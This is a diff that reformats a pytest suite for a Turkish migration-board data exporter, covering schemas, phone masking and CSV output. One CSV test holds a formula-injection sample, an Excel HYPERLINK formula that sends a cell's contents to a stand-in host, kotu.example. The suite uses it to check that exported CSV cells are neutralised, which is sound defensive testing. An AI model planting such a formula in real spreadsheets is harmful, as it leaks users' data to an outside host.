@@ -58,6 +58,7 @@ def book(make_book):
 
 # --- the schemas ------------------------------------------------------------------------------------
 
+
 def _objects(schema: dict, path: str = ""):
     if isinstance(schema, dict):
         if schema.get("type") == "object" or "properties" in schema:
@@ -73,8 +74,10 @@ def test_schema_is_2020_12_closed_and_versioned(kind):
     Draft202012Validator.check_schema(schema)
     assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
     assert schema["$id"] == f"urn:gockurul:platform:{kind}:{codes.SCHEMA_VERSION}"
-    assert schema["properties"]["sema_surumu"] == {"description": schema["properties"]["sema_surumu"]["description"],
-                                                   "enum": list(codes.READABLE_SCHEMA_VERSIONS)}
+    assert schema["properties"]["sema_surumu"] == {
+        "description": schema["properties"]["sema_surumu"]["description"],
+        "enum": list(codes.READABLE_SCHEMA_VERSIONS),
+    }
     assert codes.SCHEMA_VERSION == codes.READABLE_SCHEMA_VERSIONS[-1]  # written: the newest
     assert "yabanci_nufusu" in schema["properties"]  # 1.1: the Presidency counts the meetings owed from it
     assert schema["properties"]["belge_turu"]["const"] == kind
@@ -103,8 +106,18 @@ def test_schema_enums_are_the_closed_lists_of_the_circular():
     expected = {
         "kategori": ["alt_komisyon", "il_gkk", "ilce_gkk"],
         "tur": ["olagan", "ek"],
-        "alan": ["egitim", "saglik", "is_gucu_piyasasi", "sosyal_destek", "bilgilendirme", "toplumsal_katilim",
-                 "kamu_duzeni", "kamu_guvenligi", "kamu_sagligi", "diger"],  # M6(7)
+        "alan": [
+            "egitim",
+            "saglik",
+            "is_gucu_piyasasi",
+            "sosyal_destek",
+            "bilgilendirme",
+            "toplumsal_katilim",
+            "kamu_duzeni",
+            "kamu_guvenligi",
+            "kamu_sagligi",
+            "diger",
+        ],  # M6(7)
         "kurul_turu": ["il", "ilce"],
         "il": list(lists["Iller"]),
         "kapsam": [codes.code(x) for x in rules.PROJECT_SCOPES],
@@ -114,8 +127,10 @@ def test_schema_enums_are_the_closed_lists_of_the_circular():
     for kind in KINDS:
         for name, values in _enums(shipped_schema(kind)):
             if name == "durum":
-                options = [[codes.code(x) for x in s] for s in (*statuses.values(), rules.PROBLEM_STATUSES,
-                                                                   rules.DECISION_STATUSES)]
+                options = [
+                    [codes.code(x) for x in s]
+                    for s in (*statuses.values(), rules.PROBLEM_STATUSES, rules.DECISION_STATUSES)
+                ]
                 assert values in options, (kind, values)
             elif name == "belge_turu":
                 assert set(values) <= set(codes.DOCUMENT_KINDS)
@@ -131,9 +146,25 @@ def test_schema_enums_are_the_closed_lists_of_the_circular():
 
 def test_meeting_schema_has_the_minimum_fields_of_tasarim():
     schema = shipped_schema("toplanti")
-    for name in ("sema_surumu", "kategori", "il", "ilce", "tarih", "yer", "katilimci_sayisi", "konu_basliklari",
-                 "tespit_edilen_sorunlar", "cozum_onerileri", "onceki_kararlarin_degerlendirmesi", "kararlar",
-                 "katilimcilar", "yil", "toplanti_no", "tur", "saat"):
+    for name in (
+        "sema_surumu",
+        "kategori",
+        "il",
+        "ilce",
+        "tarih",
+        "yer",
+        "katilimci_sayisi",
+        "konu_basliklari",
+        "tespit_edilen_sorunlar",
+        "cozum_onerileri",
+        "onceki_kararlarin_degerlendirmesi",
+        "kararlar",
+        "katilimcilar",
+        "yil",
+        "toplanti_no",
+        "tur",
+        "saat",
+    ):
         assert name in schema["required"]
     decision = schema["properties"]["kararlar"]["items"]
     assert {"no", "karar", "gerekce", "amac", "sorumlu_kurumlar", "verilen_sure", "durum"} <= set(decision["required"])
@@ -151,6 +182,7 @@ def test_format_reference_lists_every_document():
 
 # --- the example --------------------------------------------------------------------------------------
 
+
 def test_every_example_document_validates_against_its_shipped_schema(book, tmp_path):
     out = tmp_path / "platform"
     result = operations.export_platform(book, out, csv=True)
@@ -158,8 +190,13 @@ def test_every_example_document_validates_against_its_shipped_schema(book, tmp_p
     assert not validate_independently(manifest)
     names = [e["dosya"] for e in manifest["belgeler"]]
     meetings = [f"gaziantep-2025-toplanti-{m[0]}.json" for m in example.MEETINGS]
-    assert names == [*meetings, "gaziantep-2025-yillik-rapor.json", "gaziantep-2025-eylem-plani.json",
-                     "gaziantep-2025-projeler.json", "gaziantep-2025-veri-paylasimi.json"]
+    assert names == [
+        *meetings,
+        "gaziantep-2025-yillik-rapor.json",
+        "gaziantep-2025-eylem-plani.json",
+        "gaziantep-2025-projeler.json",
+        "gaziantep-2025-veri-paylasimi.json",
+    ]
     for entry in manifest["belgeler"]:
         path = out / entry["dosya"]
         doc = json.loads(path.read_text(encoding="utf-8"))
@@ -224,15 +261,36 @@ def test_example_with_its_deliberate_mistakes_still_exports(make_book, tmp_path)
 
 
 def test_district_workbook_ids_carry_the_district(make_book):
-    settings = {contract.S_KIND: "İlçe", contract.S_PROVINCE: "Gaziantep", contract.S_DISTRICT: "İslahiye",
-                contract.S_YEAR: 2026, contract.S_POPULATION: 2000, contract.S_BORDER: "Hayır",
-                rules.SETTING_DISTRICT_MIGRATION_OFFICE: "Hayır"}
-    rows = {"Toplantılar": [[1, rules.MeetingCategory.DISTRICT_BOARD.value, "Olağan", dt.date(2026, 2, 16),
-                             dt.date(2026, 2, 16), dt.time(14, 30), "İslahiye Kaymakamlığı Toplantı Salonu"]],
-            "Katılımcılar": [[1, 1, "Kaymakamlık", "Kaymakam", "Şükrü Öztürk", "0342 861 10 10", "Hayır"]]}
+    settings = {
+        contract.S_KIND: "İlçe",
+        contract.S_PROVINCE: "Gaziantep",
+        contract.S_DISTRICT: "İslahiye",
+        contract.S_YEAR: 2026,
+        contract.S_POPULATION: 2000,
+        contract.S_BORDER: "Hayır",
+        rules.SETTING_DISTRICT_MIGRATION_OFFICE: "Hayır",
+    }
+    rows = {
+        "Toplantılar": [
+            [
+                1,
+                rules.MeetingCategory.DISTRICT_BOARD.value,
+                "Olağan",
+                dt.date(2026, 2, 16),
+                dt.date(2026, 2, 16),
+                dt.time(14, 30),
+                "İslahiye Kaymakamlığı Toplantı Salonu",
+            ]
+        ],
+        "Katılımcılar": [[1, 1, "Kaymakamlık", "Kaymakam", "Şükrü Öztürk", "0342 861 10 10", "Hayır"]],
+    }
     docs = documents_mod.export_documents(read_workbook(make_book(settings=settings, rows=rows)))
-    assert list(docs) == ["gaziantep-islahiye-2026-toplanti-1.json", "gaziantep-islahiye-2026-eylem-plani.json",
-                          "gaziantep-islahiye-2026-projeler.json", "gaziantep-islahiye-2026-veri-paylasimi.json"]
+    assert list(docs) == [
+        "gaziantep-islahiye-2026-toplanti-1.json",
+        "gaziantep-islahiye-2026-eylem-plani.json",
+        "gaziantep-islahiye-2026-projeler.json",
+        "gaziantep-islahiye-2026-veri-paylasimi.json",
+    ]
     doc = docs["gaziantep-islahiye-2026-toplanti-1.json"]
     assert (doc["kurul_turu"], doc["ilce"], doc["kategori"], doc["saat"]) == ("ilce", "İslahiye", "ilce_gkk", "14:30")
     assert doc["katilimcilar"][0]["telefon"] == "0342 *** ** 10"
@@ -246,6 +304,7 @@ def test_planned_meetings_are_not_exported(make_book):
 
 
 # --- determinism and the workbook left alone --------------------------------------------------------------
+
 
 def test_reexport_is_byte_identical_and_the_workbook_unchanged(book, tmp_path):
     before = book.read_bytes()
@@ -279,17 +338,21 @@ def test_stale_files_of_the_previous_export_are_removed_others_kept(make_book, t
 
 # --- KVKK ------------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize(("phone", "masked"), [
-    ("0532 123 45 67", "0532 *** ** 67"),
-    ("05321234567", "0532*****67"),
-    ("0 (532) 123-45-67", "0 (532) ***-**-67"),
-    ("0342 861 10 10", "0342 *** ** 10"),
-    ("+90 532 123 45 67", "+** *** *** ** 67"),
-    ("532 123 45 67", "*** *** ** 67"),
-    ("dahili 1234", "dahili **34"),
-    ("12", "12"),
-    (None, None),
-])
+
+@pytest.mark.parametrize(
+    ("phone", "masked"),
+    [
+        ("0532 123 45 67", "0532 *** ** 67"),
+        ("05321234567", "0532*****67"),
+        ("0 (532) 123-45-67", "0 (532) ***-**-67"),
+        ("0342 861 10 10", "0342 *** ** 10"),
+        ("+90 532 123 45 67", "+** *** *** ** 67"),
+        ("532 123 45 67", "*** *** ** 67"),
+        ("dahili 1234", "dahili **34"),
+        ("12", "12"),
+        (None, None),
+    ],
+)
 def test_mask_phone(phone, masked):
     assert codes.mask_phone(phone) == masked
 
@@ -312,12 +375,15 @@ def test_phones_masked_by_default_kept_with_personal_data(book, tmp_path):
     # no full number anywhere in the default export, the CSV included
     everything = b"".join(folder_bytes(tmp_path / "m").values()).decode("utf-8-sig", errors="replace")
     assert not any(phone in everything for phone in phones.values())
-    assert all(p in b"".join(folder_bytes(tmp_path / "f").values()).decode("utf-8-sig", errors="replace")
-               for p in phones.values())
+    assert all(
+        p in b"".join(folder_bytes(tmp_path / "f").values()).decode("utf-8-sig", errors="replace")
+        for p in phones.values()
+    )
     assert read_workbook(book).records("Katılımcılar")[0]["Telefon Numarası"] == phones[("1", 1)]
 
 
 # --- CSV --------------------------------------------------------------------------------------------
+
 
 def _book_with_cells(path: Path, edits: dict[tuple[str, str], str]) -> Path:
     """The clean example with some cells holding text that Excel would take for a formula."""
@@ -338,13 +404,16 @@ def read_csv(path: Path) -> list[list[str]]:
 
 def test_csv_has_bom_semicolons_and_neutralises_formulas(tmp_path):
     hyperlink = '=HYPERLINK("http://kotu.example/?x="&A1;"Tıklayın")'
-    book = _book_with_cells(tmp_path / "k.xlsx", {
-        ("Katılımcılar", "E2"): hyperlink,  # Ad-Soyad of meeting 1, Sıra 1
-        ("Katılımcılar", "F2"): "+90 532 123 45 67",  # Telefon Numarası
-        ("Katılımcılar", "D3"): "@SUM(1+1)",  # Unvan
-        ("Katılımcılar", "D4"): "-2+3",
-        ("Kararlar", "C2"): "=SUM(A1:A3)",  # Alınan Karar of decision 1
-    })
+    book = _book_with_cells(
+        tmp_path / "k.xlsx",
+        {
+            ("Katılımcılar", "E2"): hyperlink,  # Ad-Soyad of meeting 1, Sıra 1
+            ("Katılımcılar", "F2"): "+90 532 123 45 67",  # Telefon Numarası
+            ("Katılımcılar", "D3"): "@SUM(1+1)",  # Unvan
+            ("Katılımcılar", "D4"): "-2+3",
+            ("Kararlar", "C2"): "=SUM(A1:A3)",  # Alınan Karar of decision 1
+        },
+    )
     assert read_workbook(book).records("Katılımcılar")[0]["Ad-Soyad"] == hyperlink
     for personal, phone in ((False, "'+** *** *** ** 67"), (True, "'+90 532 123 45 67")):
         out = tmp_path / f"p{personal}"
@@ -366,10 +435,22 @@ def test_csv_has_bom_semicolons_and_neutralises_formulas(tmp_path):
         assert doc["katilimcilar"][0]["ad_soyad"] == hyperlink
 
 
-@pytest.mark.parametrize(("text", "safe"), [
-    ("=1+1", "'=1+1"), ("+90 532", "'+90 532"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"), ("Ayşe", "Ayşe"), ("a=b", "a=b"), ("'=x", "'=x"), ("", ""),
-])
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+90 532", "'+90 532"),
+        ("-5", "'-5"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
+        ("Ayşe", "Ayşe"),
+        ("a=b", "a=b"),
+        ("'=x", "'=x"),
+        ("", ""),
+    ],
+)
 def test_neutralise(text, safe):
     assert csvfiles.neutralise(text) == safe
 
@@ -389,6 +470,7 @@ def test_csv_rows_match_the_documents(book, tmp_path):
 
 
 # --- invalid workbooks: nothing is written ------------------------------------------------------------
+
 
 def _leftovers(folder: Path) -> list[str]:
     return [p.name for p in folder.iterdir() if p.name.startswith(platform_folder.TEMP_PREFIX)]
@@ -509,6 +591,7 @@ def test_failure_while_staging_leaves_no_folder(book, tmp_path, monkeypatch):
 
 # --- reading back ---------------------------------------------------------------------------------------
 
+
 @pytest.fixture
 def exported(book, tmp_path):
     out = tmp_path / "platform"
@@ -524,25 +607,36 @@ def _corrupt(exported: Path, change) -> Path:
     return path
 
 
-@pytest.mark.parametrize(("change", "expected"), [
-    (lambda d: d["kararlar"][2].update(verilen_sure="31.12.2025"),
-     "kararlar[2].verilen_sure: YYYY-AA-GG biçiminde geçerli bir tarih olmalı (ör. 2025-03-31); "
-     "bulunan: '31.12.2025'"),
-    (lambda d: d["kararlar"][0].update(durum="bitti"),
-     "kararlar[0].durum: şu değerlerden biri olmalı: 'bekliyor', 'devam_ediyor', 'uygulandi', 'uygulanamadi'; "
-     "bulunan: 'bitti'"),
-    (lambda d: d["kararlar"][1].pop("amac"), "kararlar[1].amac: zorunlu alan eksik"),
-    (lambda d: d["katilimcilar"][0].update(tc_kimlik_no="12345678901"),
-     "katilimcilar[0].tc_kimlik_no: şemada olmayan alan"),
-    (lambda d: d.update(katilimci_sayisi="12"), "katilimci_sayisi: tam sayı olmalı; bulunan: '12'"),
-    (lambda d: d.update(tarih=None), "tarih: YYYY-AA-GG biçiminde tarih olmalı; bulunan: null"),
-    (lambda d: d.update(saat="25:00"), "saat: biçimi uygun değil (beklenen: SS:DD biçiminde saat, ör. 10:00)"),
-    (lambda d: d["kararlar"][0].update(sorumlu_kurumlar=[]), "kararlar[0].sorumlu_kurumlar: boş liste olamaz"),
-    (lambda d: d["katilimcilar"][1].update(vekil="Evet"), "katilimcilar[1].vekil: true/false olmalı"),
-    (lambda d: d.update(kategori="İl Göç Koordinasyon Kurulu"),
-     "kategori: şu değerlerden biri olmalı: 'alt_komisyon', 'il_gkk', 'ilce_gkk'"),
-    (lambda d: d.update(kurul_turu="ilce"), "ilce: metin olmalı; bulunan: null"),
-])
+@pytest.mark.parametrize(
+    ("change", "expected"),
+    [
+        (
+            lambda d: d["kararlar"][2].update(verilen_sure="31.12.2025"),
+            "kararlar[2].verilen_sure: YYYY-AA-GG biçiminde geçerli bir tarih olmalı (ör. 2025-03-31); "
+            "bulunan: '31.12.2025'",
+        ),
+        (
+            lambda d: d["kararlar"][0].update(durum="bitti"),
+            "kararlar[0].durum: şu değerlerden biri olmalı: 'bekliyor', 'devam_ediyor', 'uygulandi', 'uygulanamadi'; "
+            "bulunan: 'bitti'",
+        ),
+        (lambda d: d["kararlar"][1].pop("amac"), "kararlar[1].amac: zorunlu alan eksik"),
+        (
+            lambda d: d["katilimcilar"][0].update(tc_kimlik_no="12345678901"),
+            "katilimcilar[0].tc_kimlik_no: şemada olmayan alan",
+        ),
+        (lambda d: d.update(katilimci_sayisi="12"), "katilimci_sayisi: tam sayı olmalı; bulunan: '12'"),
+        (lambda d: d.update(tarih=None), "tarih: YYYY-AA-GG biçiminde tarih olmalı; bulunan: null"),
+        (lambda d: d.update(saat="25:00"), "saat: biçimi uygun değil (beklenen: SS:DD biçiminde saat, ör. 10:00)"),
+        (lambda d: d["kararlar"][0].update(sorumlu_kurumlar=[]), "kararlar[0].sorumlu_kurumlar: boş liste olamaz"),
+        (lambda d: d["katilimcilar"][1].update(vekil="Evet"), "katilimcilar[1].vekil: true/false olmalı"),
+        (
+            lambda d: d.update(kategori="İl Göç Koordinasyon Kurulu"),
+            "kategori: şu değerlerden biri olmalı: 'alt_komisyon', 'il_gkk', 'ilce_gkk'",
+        ),
+        (lambda d: d.update(kurul_turu="ilce"), "ilce: metin olmalı; bulunan: null"),
+    ],
+)
 def test_corrupted_document_gives_turkish_error_with_path(exported, change, expected):
     path = _corrupt(exported, change)
     with pytest.raises(schemas_mod.DocumentError) as info:
@@ -567,13 +661,16 @@ def test_every_violation_is_listed(exported):
     ]
 
 
-@pytest.mark.parametrize(("text", "expected"), [
-    ('{"a": ', "geçerli bir JSON değil (satır 1, sütun 7)"),
-    ("[1, 2]", "bir JSON nesnesi"),
-    ('{"belge_turu": "tutanak", "sema_surumu": "1.0"}', "Belge türü tanınmadı"),
-    ('{"belge_turu": "toplanti", "sema_surumu": "2.0"}', "daha yeni bir şema sürümüyle (2.0)"),
-    ('{"belge_turu": "toplanti"}', "'sema_surumu' null bilinmiyor"),
-])
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('{"a": ', "geçerli bir JSON değil (satır 1, sütun 7)"),
+        ("[1, 2]", "bir JSON nesnesi"),
+        ('{"belge_turu": "tutanak", "sema_surumu": "1.0"}', "Belge türü tanınmadı"),
+        ('{"belge_turu": "toplanti", "sema_surumu": "2.0"}', "daha yeni bir şema sürümüyle (2.0)"),
+        ('{"belge_turu": "toplanti"}', "'sema_surumu' null bilinmiyor"),
+    ],
+)
 def test_unreadable_documents(tmp_path, text, expected):
     path = tmp_path / "x.json"
     path.write_text(text, encoding="utf-8")
@@ -620,10 +717,16 @@ def test_manifest_cannot_point_outside_its_folder(exported):
 # --- round trip over generated workbooks -----------------------------------------------------------------
 
 TURKISH = "abcçdefgğhıijklmnoöprsştuüvyzABCÇDEFGĞHIİJKLMNOÖPRSŞTUÜVYZâî0123456789 .,'()/:-"
-words = st.text(alphabet=TURKISH, min_size=1, max_size=30).map(str.strip).filter(
-    lambda s: s and not s.startswith(("-", "+", "@")))
-phones = st.one_of(st.none(), st.from_regex(r"0[2-5][0-9]{2} [0-9]{3} [0-9]{2} [0-9]{2}", fullmatch=True),
-                   st.from_regex(r"\+90 5[0-9]{2} [0-9]{3} [0-9]{4}", fullmatch=True))
+words = (
+    st.text(alphabet=TURKISH, min_size=1, max_size=30)
+    .map(str.strip)
+    .filter(lambda s: s and not s.startswith(("-", "+", "@")))
+)
+phones = st.one_of(
+    st.none(),
+    st.from_regex(r"0[2-5][0-9]{2} [0-9]{3} [0-9]{2} [0-9]{2}", fullmatch=True),
+    st.from_regex(r"\+90 5[0-9]{2} [0-9]{3} [0-9]{4}", fullmatch=True),
+)
 YEAR = 2025
 
 
@@ -636,20 +739,47 @@ def workbooks(draw):
         days = st.dates(dt.date(YEAR, 1, 1), dt.date(YEAR, 12, 31))
         held = draw(days if no == 1 else st.one_of(st.none(), days))  # at least one held meeting
         time = draw(st.one_of(st.none(), st.builds(dt.time, st.integers(0, 23), st.integers(0, 59))))
-        rows["Toplantılar"].append([no, draw(st.sampled_from(categories)), draw(st.sampled_from(rules.MEETING_TYPES)),
-                                    held or dt.date(YEAR, 6, 1), held, time, draw(words)])
+        rows["Toplantılar"].append(
+            [
+                no,
+                draw(st.sampled_from(categories)),
+                draw(st.sampled_from(rules.MEETING_TYPES)),
+                held or dt.date(YEAR, 6, 1),
+                held,
+                time,
+                draw(words),
+            ]
+        )
         for seq in range(1, draw(st.integers(0, 2)) + 1):
             rows["Gündem"].append([no, seq, draw(words)])
         for _ in range(draw(st.integers(0, 3))):
             decision_no += 1
-            rows["Kararlar"].append([
-                decision_no, no, draw(words), draw(words), draw(words),
-                "; ".join(draw(st.lists(words.filter(lambda s: ";" not in s), min_size=1, max_size=3))),
-                draw(st.dates(dt.date(YEAR, 1, 1), dt.date(YEAR + 2, 12, 31))),
-                draw(st.sampled_from(rules.DECISION_STATUSES)), None, draw(st.one_of(st.none(), words))])
+            rows["Kararlar"].append(
+                [
+                    decision_no,
+                    no,
+                    draw(words),
+                    draw(words),
+                    draw(words),
+                    "; ".join(draw(st.lists(words.filter(lambda s: ";" not in s), min_size=1, max_size=3))),
+                    draw(st.dates(dt.date(YEAR, 1, 1), dt.date(YEAR + 2, 12, 31))),
+                    draw(st.sampled_from(rules.DECISION_STATUSES)),
+                    None,
+                    draw(st.one_of(st.none(), words)),
+                ]
+            )
         for seq in range(1, draw(st.integers(0, 4)) + 1):
-            rows["Katılımcılar"].append([no, seq, draw(words), draw(words), draw(words), draw(phones),
-                                         draw(st.sampled_from(["Evet", "Hayır", None]))])
+            rows["Katılımcılar"].append(
+                [
+                    no,
+                    seq,
+                    draw(words),
+                    draw(words),
+                    draw(words),
+                    draw(phones),
+                    draw(st.sampled_from(["Evet", "Hayır", None])),
+                ]
+            )
     return rows
 
 
@@ -662,25 +792,54 @@ def expected_meetings(rows: dict[str, list[list]]) -> list[dict]:
             continue
         decisions = [d for d in rows["Kararlar"] if d[1] == no]
         people = [p for p in rows["Katılımcılar"] if p[0] == no]
-        out.append({
-            "toplanti_no": str(no), "kategori": kinds["Kategori"][category], "tur": kinds["ToplantiTuru"][kind],
-            "tarih": held.isoformat(), "saat": f"{time:%H:%M}" if time else None, "yer": place,
-            "konu_basliklari": [g[2] for g in rows["Gündem"] if g[0] == no],
-            "kararlar": [{"no": str(d[0]), "karar": d[2], "gerekce": d[3], "amac": d[4],
-                          "sorumlu_kurumlar": [s.strip() for s in d[5].split(";")], "verilen_sure": d[6].isoformat(),
-                          "durum": kinds["KararDurumu"][d[7]], "degerlendirme": d[9]} for d in decisions],
-            "katilimcilar": [{"sira": p[1], "kurum": parse.choice(p[2], contract.lists()["Kurumlar"]), "unvan": p[3],
-                              "ad_soyad": p[4], "telefon": p[5], "vekil": p[6] == "Evet"} for p in people],
-        })
+        out.append(
+            {
+                "toplanti_no": str(no),
+                "kategori": kinds["Kategori"][category],
+                "tur": kinds["ToplantiTuru"][kind],
+                "tarih": held.isoformat(),
+                "saat": f"{time:%H:%M}" if time else None,
+                "yer": place,
+                "konu_basliklari": [g[2] for g in rows["Gündem"] if g[0] == no],
+                "kararlar": [
+                    {
+                        "no": str(d[0]),
+                        "karar": d[2],
+                        "gerekce": d[3],
+                        "amac": d[4],
+                        "sorumlu_kurumlar": [s.strip() for s in d[5].split(";")],
+                        "verilen_sure": d[6].isoformat(),
+                        "durum": kinds["KararDurumu"][d[7]],
+                        "degerlendirme": d[9],
+                    }
+                    for d in decisions
+                ],
+                "katilimcilar": [
+                    {
+                        "sira": p[1],
+                        "kurum": parse.choice(p[2], contract.lists()["Kurumlar"]),
+                        "unvan": p[3],
+                        "ad_soyad": p[4],
+                        "telefon": p[5],
+                        "vekil": p[6] == "Evet",
+                    }
+                    for p in people
+                ],
+            }
+        )
     out.sort(key=lambda m: (m["tarih"], int(m["toplanti_no"])))
     return out
 
 
 def _view(doc: dict) -> dict:
     keys = ("no", "karar", "gerekce", "amac", "sorumlu_kurumlar", "verilen_sure", "durum", "degerlendirme")
-    return {**{k: doc[k] for k in ("toplanti_no", "kategori", "tur", "tarih", "saat", "yer", "konu_basliklari",
-                                   "katilimcilar")},
-            "kararlar": [{k: d[k] for k in keys} for d in doc["kararlar"]]}
+    return {
+        **{
+            k: doc[k]
+            for k in ("toplanti_no", "kategori", "tur", "tarih", "saat", "yer", "konu_basliklari", "katilimcilar")
+        },
+        "kararlar": [{k: d[k] for k in keys} for d in doc["kararlar"]],
+    }
 
 
 @settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@@ -706,10 +865,14 @@ def test_round_trip_workbook_documents_read_back(rows):
                 assert doc == full
                 continue
             assert [p["telefon"] for p in doc["katilimcilar"]] == [
-                codes.mask_phone(p["telefon"]) for p in full["katilimcilar"]]
+                codes.mask_phone(p["telefon"]) for p in full["katilimcilar"]
+            ]
 
             def strip(d):
-                return {**d, "telefon_maskeli": None, "katilimcilar": [
-                    {**p, "telefon": None} for p in d["katilimcilar"]]}
+                return {
+                    **d,
+                    "telefon_maskeli": None,
+                    "katilimcilar": [{**p, "telefon": None} for p in d["katilimcilar"]],
+                }
 
             assert strip(doc) == strip(full)
